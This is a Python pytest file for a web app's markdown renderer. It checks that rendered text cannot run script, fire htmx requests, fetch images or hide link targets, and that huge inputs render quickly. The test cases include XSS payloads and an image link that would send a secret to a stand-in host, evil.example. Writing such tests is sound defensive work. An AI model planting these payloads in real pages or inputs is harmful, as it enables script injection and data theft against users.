"""T-03, T-12, T-13, T-20: what people and models wrote can be read and cannot act."""

import time
from pathlib import Path
from urllib.parse import urlsplit

import html5lib
import pytest
from hypothesis import given
from hypothesis import strategies as st

from kenoweb.ui import markdown
from tests import own_lines

ROOT = Path(__file__).resolve().parents[2]
ALLOWED = {"href", "title", "rel", "start", "class", "hx-disable"}


def live(html: str) -> list[str]:
    """Everything in the HTML that could act, by a browser's own parser."""
    found = []
    for element in html5lib.parseFragment(html, namespaceHTMLElements=False).iter():
        if not isinstance(element.tag, str):
            continue
        if element.tag not in {*markdown.TAGS, "div", "DOCUMENT_FRAGMENT"}:
            found.append(f"<{element.tag}>")
        found += [f"{element.tag} {name}" for name in element.attrib if name not in ALLOWED]
        scheme = urlsplit(element.get("href", "").strip()).scheme
        if scheme and scheme not in markdown.SCHEMES:
            found.append(element.get("href"))
    return found


OWN = [
    "<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "<div hx-post=/s/home/proposals/1/approve/ hx-trigger=load>",
    "<a data-hx-get=/ hx-on:click=alert(1)>x</a>",
    "![x](https://evil.example/?d=secret)",
    "<img src=x onerror=alert(1)>",
    "<svg><use href='data:x'/></svg>",
    "[x]: javascript:alert(1)\n\n[x]",
    '<https://evil.example/"onmouseover=alert(1)>',
    "`<img src=x>` <style>*{}</style>",
    "a\n\n    <script>",
    '[x](https://a.example "\\"onclick=\\"alert(1)")',
]


@pytest.mark.parametrize("text", OWN)
def test_T12_nothing_is_alive(text):
    assert live(markdown.render(text)) == []


@pytest.mark.parametrize("name", ["xss", "naughty"])
def test_T12_T13_no_hostile_line_is_alive(name):
    lines = own_lines.lines(name)
    alive = {text[:60]: found for text in lines if (found := live(_rendered(text)))}
    assert alive == {}
    assert len(lines) > 100


def _rendered(text: str) -> str:
    # A lone surrogate cannot reach a page: the edge replaces it before anything is stored.
    return markdown.render(text.encode("utf-8", "replace").decode())


@given(st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=300))
def test_any_text_renders_and_is_dead(text):
    assert live(markdown.render(text)) == []


def test_T03_no_picture_is_ever_fetched():
    assert "<img" not in markdown.render(
        "![a](https://evil.example/?d=1) ![b][r]\n\n[r]: https://x.y"
    )


def test_T03_a_link_shows_where_it_leads_and_tells_nobody():
    html = markdown.render("[my bank](https://evil.example/login)")
    assert "my bank<span> (evil.example)</span>" in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_a_link_that_already_shows_its_host_is_left_alone():
    assert "<span>" not in markdown.render("[docs.example](https://docs.example/a)")


def test_T13_htmx_is_off_around_the_text():
    assert markdown.render("a").startswith('<div class="prose" hx-disable>')


def test_raw_html_stays_readable():
    assert "&lt;b&gt;bold&lt;/b&gt;" in markdown.render("so <b>bold</b>")


def test_the_ordinary_things_work():
    html = markdown.render(
        "# Title\n\n- **one**\n- `two`\n\n> said\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    )
    for part in (
        "<h2>Title</h2>",
        "<strong>one</strong>",
        "<code>two</code>",
        "<blockquote>",
        "<td>1",
    ):
        assert part in html


HEAVY = {
    "brackets": "[" * 20_000,
    "pairs": "[[" * 1000,
    "links": "[a](" * 5000,
    "declarations": "<![" * 6000,
    "quotes": "> " * 9000,
    "list in list": "- " * 9000,
    "numbers in numbers": "1. " * 6000,
    "stars": "**a" * 6000,
    "underscores": "_a_" * 6000,
    "ticks": "`" * 20_000,
    "lines": "a\n" * 10_000,
    "indents": "    " * 5000 + "a",
    "entities": "&#" * 10_000,
    "angles": "<" * 20_000,
    "pipes": "|a" * 10_000,
    "just under the limit": "[" * 149 + "*a" * 700,
}


@pytest.mark.parametrize("name", HEAVY)
def test_T20_no_text_costs_more_than_a_moment(name):
    began = time.process_time()
    html = markdown.render(HEAVY[name])
    # What grows with the square of its length takes minutes.
    assert time.process_time() - began < 3
    assert live(html) == []


def test_a_list_right_below_its_sentence_is_a_list():
    html = markdown.render("I know:\n- tea\n- bread\n\nThat is all.")
    assert html.count("<li>") == 2
    assert "<p>I know:</p>" in html
    assert "<li>" not in markdown.render("no list\n-no item\n2020. A good year")


def test_what_turns_the_direction_around_is_shown():
    assert "U+202E" in markdown.render("\u202egnp.exe")


def test_nothing_of_one_text_shows_in_the_next():
    markdown.render("[here]: https://evil.example/ \n\n[here]")
    assert "evil" not in markdown.render("[here]")


def test_a_text_too_deep_to_read_does_not_spoil_the_next(monkeypatch):
    class Broken:
        def reset(self):
            raise RecursionError

    monkeypatch.setattr(markdown._thread_cache, "converter", Broken(), raising=False)
    assert "as-is" in markdown.render("**deep**")
    assert "<strong>calm</strong>" in markdown.render("**calm**")


def test_a_page_of_this_keno_is_a_link_and_no_other_address_is(settings):
    settings.KENO_URL = "https://keno.example"
    html = markdown.render("It stays there.\nhttps://keno.example/s/home/facts/131/")
    assert 'href="https://keno.example/s/home/facts/131/"' in html
    assert "href" not in markdown.render("https://keno.example.evil/s/")
    assert "href" not in markdown.render("See\nhttps://elsewhere.example/s/")
